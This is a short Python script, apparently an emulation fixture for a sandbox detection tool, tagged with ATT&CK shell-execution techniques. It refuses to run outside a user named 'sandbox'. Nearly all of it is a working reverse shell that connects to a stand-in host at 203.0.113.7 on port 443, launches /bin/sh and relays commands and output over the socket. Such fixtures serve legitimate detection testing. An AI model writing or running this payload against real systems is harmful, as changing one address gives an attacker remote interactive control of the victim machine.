# technique: T1059.004 T1059.006
# needs: python3
# net: sink
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import socket, subprocess, threading
peer = socket.create_connection(("203.0.113.7", 443), 5)
shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def up():
    for line in iter(lambda: shell.stdout.read(1), b""): peer.sendall(line)
threading.Thread(target=up, daemon=True).start()
shell.stdin.write(b"id\n"); shell.stdin.flush()
peer.settimeout(1.5)
try:
    while data := peer.recv(1024): shell.stdin.write(data); shell.stdin.flush()
except OSError: pass
shell.kill()
